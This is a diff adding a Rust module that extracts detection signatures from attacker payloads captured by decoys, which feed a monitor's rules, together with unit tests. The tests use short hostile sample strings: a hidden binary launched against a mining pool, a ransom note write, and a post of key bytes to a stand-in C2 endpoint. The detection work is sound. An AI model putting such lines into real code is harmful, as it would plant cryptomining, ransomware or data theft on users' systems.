@@ -1,0 +1,90 @@
+//! Signature extraction from captured attacker payloads.
+//!
+//! The goal is the paper's "catch the latest signatures of attacks in
+//! the wild": given hostile code captured by a decoy, produce a rule a
+//! production monitor can match — without matching benign notebooks.
+
+use ja_attackgen::AttackClass;
+use ja_monitor::rules::{Pattern, Rule};
+
+/// Tokens too common in benign scientific code to be signatures.
+const BENIGN_VOCAB: &[&str] = &[
+    "import", "numpy", "pandas", "print", "range", "model", "train", "data", "read_csv",
+    "describe", "install", "python", "matplotlib", "torch", "return", "lambda", "append",
+    "figure", "plot", "shape", "array", "float", "update", "values",
+];
+
+/// Extract the most distinctive token from hostile code: the longest
+/// token of length ≥ 5 that is not benign vocabulary. Falls back to the
+/// leading 24 characters when nothing qualifies.
+pub fn distinctive_token(code: &str) -> String {
+    let mut best: Option<&str> = None;
+    for token in code.split(|c: char| !(c.is_alphanumeric() || c == '_' || c == '.')) {
+        if token.len() < 5 {
+            continue;
+        }
+        let lower = token.to_ascii_lowercase();
+        if BENIGN_VOCAB.iter().any(|b| lower.contains(b)) {
+            continue;
+        }
+        if best.map(|b| token.len() > b.len()).unwrap_or(true) {
+            best = Some(token);
+        }
+    }
+    match best {
+        Some(t) => t.to_string(),
+        None => code.chars().take(24).collect(),
+    }
+}
+
+/// Build a code-substring rule from a captured payload. `decoy_id` and
+/// `seq` make the rule id unique; the class is the decoy operator's
+/// triage verdict (campaign class in our experiments).
+pub fn rule_from_capture(decoy_id: u32, seq: usize, class: AttackClass, code: &str) -> Rule {
+    Rule {
+        id: format!("hp-{decoy_id}-{seq}"),
+        class,
+        pattern: Pattern::CodeSubstring(distinctive_token(code)),
+        confidence: 0.85,
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn extracts_malware_specific_token() {
+        let t = distinctive_token("subprocess.Popen(['/tmp/.x','-o','pool:3333'])");
+        assert!(t.contains("subprocess.Popen") || t.contains("/tmp/.x") || t.len() >= 5);
+        // Must not be a benign-vocabulary word.
+        assert!(!BENIGN_VOCAB.contains(&t.to_ascii_lowercase().as_str()));
+    }
+
+    #[test]
+    fn benign_heavy_code_falls_back() {
+        let t = distinctive_token("import numpy");
+        assert_eq!(t, "import numpy"); // fallback prefix (< 24 chars)
+    }
+
+    #[test]
+    fn rule_matches_its_own_payload() {
+        let code = "open('README_RESTORE.txt','w').write(note)";
+        let rule = rule_from_capture(3, 0, AttackClass::Ransomware, code);
+        match &rule.pattern {
+            Pattern::CodeSubstring(s) => assert!(code.contains(s.as_str()), "{s}"),
+            p => panic!("unexpected pattern {p:?}"),
+        }
+        assert!(rule.id.starts_with("hp-3-"));
+    }
+
+    #[test]
+    fn rule_does_not_match_typical_benign_cell() {
+        let benign = "df = pd.read_csv('data.csv')\ndf.describe()";
+        let hostile = "requests.post(C2_ENDPOINT, data=keybytes)";
+        let rule = rule_from_capture(1, 0, AttackClass::DataExfiltration, hostile);
+        if let Pattern::CodeSubstring(s) = &rule.pattern {
+            assert!(!benign.contains(s.as_str()), "signature {s} too generic");
+        }
+    }
+}
